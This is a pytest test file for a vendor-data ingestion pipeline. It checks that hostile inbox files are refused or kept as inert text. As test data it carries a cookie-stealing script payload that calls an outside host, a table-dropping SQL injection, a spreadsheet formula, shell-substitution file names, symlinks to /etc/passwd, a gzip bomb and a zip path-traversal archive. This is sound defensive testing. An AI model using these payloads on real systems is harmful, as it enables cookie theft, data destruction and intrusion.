"""Whatever lies in the inbox: a night takes what it can use, sets the rest aside, and believes nothing."""

import gzip
import io
import os
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest

from flows import night
from flows.home import Home
from flows.intake import FileOutcome
from flows.served_database import query_published
from flows.settings import Settings
from flows.warehouse import Warehouse
from tests.flows.small_home import import_paths, new_home, published_rows
from transforms.schemas import ECONOMIC_EVENT, INDEX_LEVEL, LANDED_FILE, REJECTED_ROW

SOUND = b"DATE,VVIX\n01/02/2024,85.0\n01/03/2024,86.0\n"
MARKUP = "<script>fetch('https://example.org/'+document.cookie)</script>"
INJECTION = "x'); drop table core.landed_file; --"
FORMULA = '=HYPERLINK("https://example.org","open")'


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return new_home(tmp_path / "home")


def take_in(home: Home) -> dict[str, FileOutcome]:
    found = night.take_in(home, settings=Settings(), paths=None).files
    return {outcome.name: outcome for outcome in found}


def index_file(level: float) -> bytes:
    return f"DATE,VVIX\n01/02/2024,{level}\n".encode()


def test_a_night_survives_an_inbox_of_everything_that_is_no_vendor_file(home: Home) -> None:
    inbox = home.inbox
    (inbox / "good.csv").write_bytes(SOUND)
    os.mkfifo(inbox / "pipe.csv")
    (inbox / "device.csv").symlink_to("/dev/zero")
    (inbox / "passwd.csv").symlink_to("/etc/passwd")
    (inbox / "dangling.csv").symlink_to("/nowhere")
    (inbox / "loop.csv").symlink_to(inbox / "loop.csv")
    (inbox / "outside").symlink_to("/etc")
    with open(inbox / "sparse.csv", "wb") as stream:
        stream.truncate(1 << 41)
    (inbox / "bomb.csv.gz").write_bytes(gzip.compress(bytes(100 << 20)))
    (inbox / "twice.csv.gz").write_bytes(gzip.compress(gzip.compress(SOUND)))
    (inbox / "nul.csv").write_bytes(bytes(100_000))
    (inbox / "one_line.csv").write_bytes(b"DATE,VVIX," + b"x" * 3_000_000)
    (inbox / "wide.csv").write_bytes(b"DATE,VVIX" + b",c" * 60_000 + b"\n01/02/2024,85.0" + b",1" * 60_000 + b"\n")
    (inbox / "deep.json").write_bytes(b'{"data":{"options":[' + b"[" * 200_000 + b'"option"')

    found = take_in(home)

    assert found.pop("good.csv").outcome == "loaded"
    assert {name: outcome.outcome for name, outcome in found.items()} == dict.fromkeys(found, "refused")
    assert len(found) == 13
    reasons = {name: outcome.reason or "" for name, outcome in found.items()}
    for name, said in {
        "pipe.csv": "no regular file",
        "device.csv": "symbolic link",
        "passwd.csv": "symbolic link",
        "dangling.csv": "symbolic link",
        "loop.csv": "symbolic link",
        "outside": "symbolic link",
        "sparse.csv": "2,199,023,255,552 bytes",
        "bomb.csv.gz": "unpacks to more than 64 MiB",
        "twice.csv.gz": "archive inside an archive",
        "wide.csv": "60,002 columns",
    }.items():
        assert said in reasons[name], name
    assert not any("root:" in reason for reason in reasons.values())
    assert [path for path in inbox.iterdir()] == []
    assert len(list(home.rejected.glob("*.reason.txt"))) == 13
    assert Path("/etc/passwd").exists()


def test_names_are_data(home: Home, tmp_path: Path) -> None:
    names = [
        f"{INJECTION.replace('/', '')}.csv", f"{FORMULA.replace('/', '')}.csv", "<b>bold<b>.csv", "новый файл.csv",
        "línea\nnueva.csv", os.fsdecode(b"\xff\xfe.csv"), "$HOME`id`.csv", "-rf.csv", "a" * 250 + ".csv", "{name}.csv",
    ]  # fmt: skip
    for number, name in enumerate(names):
        (home.inbox / name).write_bytes(index_file(80 + number))
    assert {outcome.outcome for outcome in take_in(home).values()} == {"loaded"}
    import_paths(home, [])
    landed = published_rows(home.published, LANDED_FILE)
    assert landed.height == len(names)
    shown = {os.fsencode(name).decode("utf-8", "replace").replace("\n", " ") for name in names}
    assert set(landed["name"]) == shown
    assert query_published(home.published / "alvh.duckdb", "select count(*) as n from core.landed_file")["n"][0] == len(
        names
    )
    assert list(home.inbox.iterdir()) == []


def test_vendor_text_is_stored_as_it_came_and_does_nothing(home: Home, tmp_path: Path) -> None:
    events = tmp_path / "events.csv"
    texts = [MARKUP, INJECTION, FORMULA, "{{7*7}}", "\u202etxt.exe", "a" * 20_000]
    lines = [
        "{},cpi,x,December 2023,08:30,{}".format(date(2024, 1, 11 + n), '"' + text.replace('"', '""') + '"')
        for n, text in enumerate(texts)
    ]
    events.write_text("\n".join(["date,event,detail,ref_period,time_et,source", *lines, ""]))
    symbols = tmp_path / "levels.csv"
    symbols.write_text(
        "\n".join(["DATE,VVIX", f'01/02/2024,"{MARKUP}"', f'01/03/2024,"{INJECTION}"', "01/04/2024,85.0", ""])
    )
    import_paths(home, [events, symbols])
    assert published_rows(home.published, ECONOMIC_EVENT).sort("event_date")["source"].to_list() == texts
    rejected = published_rows(home.published, REJECTED_ROW)
    assert rejected.height == 2
    assert any(MARKUP in text for text in rejected["reason"])
    assert any(INJECTION in text for text in rejected["reason"])
    with duckdb.connect(str(home.published / "alvh.duckdb"), read_only=True) as connection:
        assert connection.execute("select source from core.economic_event order by event_date").fetchall() == [
            (t,) for t in texts
        ]
        assert connection.execute("select count(*) from core.landed_file").fetchall() == [(2,)]


def test_a_file_that_is_still_being_written_stays_in_the_inbox(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    path = home.inbox / "VVIX_History.csv"
    path.write_bytes(SOUND[:30])
    writer = open(path, "ab")  # noqa: SIM115
    real = night.ingest_inbox

    def meanwhile(*arguments: object, **options: object) -> object:
        # The copy goes on after the night has read the file and before it clears the inbox.
        from flows import reading

        landed = reading.land_in

        def land(*args: object, **kwargs: object) -> object:
            writer.write(SOUND[30:])
            writer.flush()
            return landed(*args, **kwargs)

        monkeypatch.setattr(reading, "land_in", land)
        return real(*arguments, **options)

    monkeypatch.setattr(night, "ingest_inbox", meanwhile)
    take_in(home)
    writer.close()
    assert path.read_bytes() == SOUND
    monkeypatch.undo()
    assert take_in(home)["VVIX_History.csv"].outcome == "loaded"
    assert not path.exists()
    with Warehouse(home.warehouse) as warehouse:
        assert warehouse.read(INDEX_LEVEL)["session_date"].to_list() == [date(2024, 1, 2), date(2024, 1, 3)]


@pytest.fixture
def readable_folder() -> Iterator[Path]:
    """A folder that other users may enter; pytest's own are private."""
    with tempfile.TemporaryDirectory(prefix="alvh-readable-") as folder:
        Path(folder).chmod(0o755)
        yield Path(folder)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a file that it hands to another user")
def test_files_and_folders_without_permission_are_named_and_set_aside(readable_folder: Path) -> None:
    home = new_home(readable_folder / "home")
    (home.inbox / "good.csv").write_bytes(SOUND)
    (home.inbox / "closed.csv").write_bytes(SOUND)
    (home.inbox / "closed.csv").chmod(0)
    (home.inbox / "folder").mkdir()
    (home.inbox / "folder" / "inside.csv").write_bytes(SOUND)
    nobody = 65_534
    for path in [home.root, *home.root.rglob("*")]:
        os.chown(path, nobody, nobody)
    os.chown(home.inbox / "closed.csv", 0, 0)
    os.chown(home.inbox / "folder", 0, 0)
    (home.inbox / "folder").chmod(0o700)
    # Once with all rights first: what is imported later may be closed to others.
    program = (
        "import os, sys; from pathlib import Path; from flows import night\n"
        "from flows.home import Home; from flows.settings import Settings\n"
        "def files(root): return night.take_in(Home(Path(root)), settings=Settings(), paths=None).files\n"
        f"files(sys.argv[1]); os.setgroups([]); os.setgid({nobody}); os.setuid({nobody})\n"
        "for file in files(sys.argv[2]):\n"
        "    print(repr(file.name), file.outcome, file.reason)\n"
    )
    rehearsal = new_home(readable_folder / "rehearsal")
    (rehearsal.inbox / "good.csv").write_bytes(SOUND)
    (rehearsal.inbox / "bad.csv").write_bytes(b"<html>")
    told = subprocess.run(
        [sys.executable, "-c", program, str(rehearsal.root), str(home.root)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert told.returncode == 0, told.stderr
    said = told.stdout
    assert "'good.csv' loaded" in said
    assert "closed.csv cannot be read: [Errno 13] Permission denied" in said
    assert "folder cannot be read: [Errno 13] Permission denied" in said


def test_a_file_that_breaks_its_reader_is_refused_and_the_others_are_loaded(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    from flows.sources import index_history

    read = index_history.read

    def broken(delivery: object, **options: object) -> object:
        if b"13.5" in delivery.payload:  # type: ignore[attr-defined]
            pl.Series([1]).cast(pl.Int8).to_physical().sort(descending=[True, False])  # type: ignore[arg-type]
        return read(delivery, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(index_history, "read", broken)
    (home.inbox / "breaks.csv").write_bytes(index_file(13.5))
    (home.inbox / "good.csv").write_bytes(SOUND)
    found = take_in(home)
    assert found["good.csv"].outcome == "loaded"
    assert "failed in a way this program does not know" in (found["breaks.csv"].reason or "")


def test_a_landed_file_that_is_no_longer_read_does_not_stop_the_next_nights(home: Home) -> None:
    from flows.landing import land_file

    land_file(home, b"<html>", source="index_history", name="old.csv", received_at=datetime(2020, 1, 1))
    (home.inbox / "good.csv").write_bytes(SOUND)
    assert take_in(home)["good.csv"].outcome == "loaded"
    with Warehouse(home.warehouse) as warehouse:
        rows = {row["name"]: row for row in warehouse.read(LANDED_FILE).to_dicts()}
    assert rows["old.csv"]["outcome"] == "refused"
    assert "web page" in rows["old.csv"]["detail"]
    assert take_in(home) == {}


def test_an_archive_inside_the_inbox_writes_nothing_outside(home: Home) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../escaped.csv", SOUND)
    (home.inbox / "escape.zip").write_bytes(buffer.getvalue())
    before = {path for path in home.root.parent.rglob("*") if home.root not in path.parents}
    assert take_in(home)["escape.zip"].outcome == "refused"
    assert {path for path in home.root.parent.rglob("*") if home.root not in path.parents} == before
